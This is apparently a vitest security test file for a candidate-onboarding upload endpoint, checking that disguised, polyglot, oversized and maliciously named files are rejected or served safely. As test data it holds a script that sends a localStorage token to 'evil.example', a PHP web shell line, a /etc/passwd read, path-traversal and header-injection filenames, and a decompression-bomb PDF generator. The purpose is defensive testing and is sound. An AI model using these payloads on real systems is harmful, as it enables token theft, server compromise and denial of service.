import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  getCandidateBankDetails,
  getCandidatePersonalDetails,
  getDocumentFile,
  saveCandidateBankDetails,
  saveCandidatePersonalDetails,
  type BankDetails,
  type PersonalDetails,
} from '#contract/joining.ts';
import { acceptedCandidate, bankForm, personalForm, sendForm, storedFiles, testFile } from '#test/joining-requests.ts';
import { openTestApp } from '#test/test-app.ts';
import {
  jpegAround,
  jpegFrame,
  jpegScan,
  jpegSegment,
  madeJpeg,
  madePng,
  pdfAround,
  pngChunk,
} from '#test/documents/made-files.ts';

const t = await openTestApp();
const { token } = await acceptedCandidate(t);

const script = '<script>fetch("//evil.example/"+localStorage.token)</script>';
const pdf = (text = '', trailer = '') => pdfAround(Buffer.from(text), { trailer });
const text = (content: string) => Buffer.from(content);

/** A PDF whose table of objects unpacks to a gigabyte. */
function bombPdf(): Buffer {
  const table = deflateSync(Buffer.alloc(2 ** 30), { level: 1 });
  const entries = '/Size 150000000/W[1 4 2]/Root 2 0 R/Filter/FlateDecode';
  const object = `1 0 obj<</Type/XRef${entries}/Length ${table.length}>>stream\n`;
  return Buffer.concat([text(`%PDF-1.7\n${object}`), table, text('\nendstream endobj\nstartxref\n9\n%%EOF')]);
}

/** Sends a file as the passbook under a name and a declared type, and answers what is said to it. */
async function sendPassbook(bytes: Buffer, name = 'scan.png', type = 'image/png') {
  const form = new FormData();
  for (const [key, value] of Object.entries(bankForm())) if (typeof value === 'string') form.set(key, value);
  form.set('passbookFile', new File([new Uint8Array(bytes)], name, { type }));
  const encoded = new Response(form);
  const body = Buffer.from(await encoded.arrayBuffer());
  const headers = { 'content-type': encoded.headers.get('content-type') ?? '' };
  return t.call(saveCandidateBankDetails, { token, body, headers });
}

async function servedPassbook() {
  const read = await t.call(getCandidateBankDetails, { token });
  const { documents } = read.envelope.responseObject as BankDetails;
  const link = new URL(documents.passbookFile?.url ?? '', 'http://x').searchParams.get('link') ?? '';
  return { document: documents.passbookFile, file: await t.call(getDocumentFile, { query: { link } }) };
}

describe('what is not a PNG, JPG or PDF by its first bytes', () => {
  it.each<[string, Buffer, string?, string?]>([
    ['a page', text(`<html>${script}</html>`)],
    [
      'a page that says it is a PDF far down',
      text(`<html>${script}${' '.repeat(1024)}\n%PDF-1.7`),
      'a.pdf',
      'application/pdf',
    ],
    ['a vector picture with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
    ['a GIF', text(`GIF89a=1;${script}`)],
    ['a program for Windows', Buffer.concat([text('MZ'), Buffer.alloc(200)]), 'pan.pdf.exe', 'application/pdf'],
    ['a program for Linux', Buffer.concat([text('\x7fELF'), Buffer.alloc(200)])],
    ['a script of a shell', text('#!/bin/sh\nid')],
    ['a script of a server', text('<?php system($_GET["c"]); ?>'), 'pan.php.png'],
    ['an archive', Buffer.concat([text('PK\x03\x04'), Buffer.alloc(200)]), 'pan.jar.png'],
    ['a TIFF', Buffer.concat([text('II*\0'), Buffer.alloc(200)]), 'scan.tiff', 'image/tiff'],
    ['a WebP', Buffer.concat([text('RIFF\x10\0\0\0WEBPVP8 '), Buffer.alloc(200)]), 'scan.webp', 'image/webp'],
    ['a HEIC', Buffer.concat([text('\0\0\0\x18ftypheic'), Buffer.alloc(200)]), 'scan.heic', 'image/heic'],
    ['a bitmap', Buffer.concat([text('BM'), Buffer.alloc(200)])],
    ['a PNG with a broken beginning', Buffer.concat([madePng(1, 1).subarray(0, 5), Buffer.alloc(90)])],
    ['a text of two bytes that begins like a JPG', Buffer.from([0xff, 0xd8])],
    ['a PostScript that draws', text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file')],
    ['a page behind a mark of its encoding', text(`\ufeff<html>${script}`)],
  ])('%s is refused on its field', async (_what, bytes, name, type) => {
    const before = await storedFiles(t);
    const answer = await sendPassbook(bytes, name, type);
    const message = 'Only PNG, JPG, or PDF files are allowed';
    expect(answer.envelope).toMatchObject({ code: 400, message, errors: [{ path: 'passbookFile', message }] });
    expect(await storedFiles(t)).toEqual(before);
  });
});

describe('what cannot be opened', () => {
  it.each<[string, Buffer, string]>([
    ['a page that says it is a PDF', text(`<html>${script}\n%PDF-1.7\n%%EOF`), 'This PDF cannot be opened.'],
    ['a PDF that unpacks to a gigabyte', bombPdf(), 'This PDF cannot be opened.'],
    [
      'a PNG that is rubbish from the ninth byte on',
      Buffer.concat([madePng(1, 1).subarray(0, 8), text(script)]),
      'This picture cannot be opened.',
    ],
  ])(
    '%s is refused on its field, and other files are judged as before',
    async (_what, bytes, message) => {
      const before = await storedFiles(t);
      const { envelope } = await sendPassbook(bytes);
      expect(envelope.errors).toEqual([{ path: 'passbookFile', message: expect.stringContaining(message) as string }]);
      expect(await storedFiles(t)).toEqual(before);
      expect((await sendPassbook(pdf(), 'a.pdf', 'application/pdf')).envelope.code).toBe(200);
    },
    120_000,
  );
});

describe('what is something else besides', () => {
  const types = { PNG: 'image/png', JPG: 'image/jpeg', PDF: 'application/pdf' };
  it.each<[string, keyof typeof types, Buffer, string, string]>([
    ['a PDF with a page in it', 'PDF', pdf(`<html>${script}</html>`), 'a.html', 'text/html'],
    ['a PDF with a script', 'PDF', pdf('', '/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'a.js', 'text/javascript'],
    [
      'a PDF that is an archive too',
      'PDF',
      Buffer.concat([pdf(), text('PK\x03\x04'), Buffer.alloc(99)]),
      'a.jar',
      'application/java-archive',
    ],
    [
      'a JPG with a page in its comment',
      'JPG',
      madeJpeg(jpegSegment(0xfe, text(`*/${script}`)), jpegFrame(8, 8), jpegScan),
      'a.html',
      'text/html',
    ],
    [
      'a JPG that is a script',
      'JPG',
      madeJpeg(jpegSegment(0xe0, text('=1;alert(1)//')), jpegFrame(8, 8), jpegScan),
      'a.js',
      'application/javascript',
    ],
    ['a JPG with an archive behind it', 'JPG', jpegAround(text('PK\x03\x04')), 'a.zip', 'application/zip'],
    [
      'a PNG with a page in its text',
      'PNG',
      madePng(8, 8, { lines: 8, chunks: [pngChunk('tEXt', text(`c\0${script}`))] }),
      'a.svg',
      'image/svg+xml',
    ],
    [
      'a page with a whole PDF in it',
      'PDF',
      Buffer.concat([text(`<html>${script}</html>`), pdf()]),
      'a.html',
      'text/html',
    ],
  ])(
    '%s is served as its own type alone, under our name, and can do nothing',
    async (_what, type, bytes, name, declared) => {
      const saved = await sendPassbook(bytes, name, declared);
      expect(saved.envelope).toMatchObject({ code: 200 });
      const { document, file } = await servedPassbook();
      const ours = `passbook.${type.toLowerCase()}`;
      expect(document).toMatchObject({ name: ours, type });
      expect(file.bytes.equals(bytes)).toBe(true);
      expect(file.headers).toMatchObject({
        'content-type': types[type],
        'x-content-type-options': 'nosniff',
        'content-disposition': `inline; filename="${ours}"`,
        'cache-control': 'private, no-store',
        'cross-origin-resource-policy': 'same-origin',
      });
      expect(file.headers['content-security-policy']).toMatch(/^default-src 'none';.*; sandbox$/);
    },
  );
});

describe('a name that is a weapon', () => {
  const headOf = (name: string) => `Content-Disposition: form-data; name="passbookFile"; filename="${name}"`;
  it.each<[string, string]>([
    ['a path', '../../../../tmp/evil.png'],
    ['a path of Windows', '..\\..\\evil.png'],
    ['an absolute path', '/etc/cron.d/evil'],
    ['one that ends early', 'a.png\0.html'],
    ['one that is read from the right', 'scan\u202egnp.exe'],
    ['line breaks as they are escaped', 'a%0d%0aSet-Cookie: x=1.png'],
    ['a second header', 'a.png"\r\nContent-Type: text/html\r\nX-Evil: 1\r\nX-Rest: "'],
    ['100 KB', 'x'.repeat(100_000)],
    ['a device', 'CON.png'],
    ['one of an object’s own', '__proto__'],
    ['markup', '"><script>alert(1)</script>.png'],
    ['nothing but spaces', '   '],
  ])('%s names nothing: neither where the file lies nor what it is served as', async (_what, name) => {
    const parts = Object.entries(bankForm()).flatMap(([key, value]) =>
      typeof value === 'string' ? [`--x\r\nContent-Disposition: form-data; name="${key}"\r\n\r\n${value}\r\n`] : [],
    );
    const scan = testFile('png', 500).bytes;
    const head = `--x\r\n${headOf(name)}\r\nContent-Type: text/html\r\n\r\n`;
    const body = Buffer.concat([text(parts.join('')), text(head), scan, text('\r\n--x--\r\n')]);
    const headers = { 'content-type': 'multipart/form-data; boundary=x' };
    const answer = await t.call(saveCandidateBankDetails, { token, body, headers });
    expect(answer.status).toBe(200);
    const { file } = await servedPassbook();
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['content-disposition']).toBe('inline; filename="passbook.png"');
    expect(file.headers).not.toHaveProperty('x-evil');
    for (const path of await storedFiles(t)) expect(path).toMatch(/\/documents\/documents\/[0-9a-f]{32}$/);
  });
});

describe('a picture that claims more pixels than can be looked at', () => {
  const message = 'This picture has too many pixels. Please upload a smaller copy.';
  const late = Array.from({ length: 20 }, () => jpegSegment(0xe2, Buffer.alloc(65_000)));
  it.each<[string, Buffer]>([
    ['60,000 × 60,000 in a PNG of 5 KB', madePng(60_000, 60_000, { lines: 500 })],
    ['30,000 × 30,000, all of them there', madePng(30_000, 30_000, { lines: 30_000 })],
    ['1 × 2,000,000,000', madePng(1, 2_000_000_000)],
    ['65,500 × 65,500 in a JPG', madeJpeg(jpegFrame(65_500, 65_500))],
    ['65,500 × 65,500 behind 1 MB of other things', madeJpeg(...late, jpegFrame(65_500, 65_500, 0xc2))],
  ])('is refused on its field, and nothing of it is kept: %s', async (_what, bytes) => {
    const before = await storedFiles(t);
    const answer = await sendPassbook(bytes);
    expect(answer.envelope).toMatchObject({ code: 400, message, errors: [{ path: 'passbookFile', message }] });
    const photo = { bytes, name: 'photo.png' };
    const personal = await sendForm(t, saveCandidatePersonalDetails, token, personalForm({ profile: photo }));
    expect(personal.envelope).toMatchObject({ code: 400, message, errors: [{ path: 'profile', message }] });
    expect(await storedFiles(t)).toEqual(before);
  });

  it('is none with what a phone takes, and none with what is no picture at all', async () => {
    const form = personalForm({
      panDocument: { bytes: madeJpeg(jpegFrame(12_000, 9000), jpegScan), name: 'pan.jpg' },
      aadhaarDocument: testFile('jpg', 2_000_000),
      profile: { bytes: madePng(8000, 6000, { lines: 6000 }), name: 'me.png' },
    });
    expect((await sendForm(t, saveCandidatePersonalDetails, token, form)).status).toBe(200);
    const read = await t.call(getCandidatePersonalDetails, { token });
    const { documents } = read.envelope.responseObject as PersonalDetails;
    expect(documents).toMatchObject({
      panDocument: { type: 'JPG' },
      aadhaarDocument: { type: 'JPG' },
      profile: { type: 'PNG' },
    });
  });
});
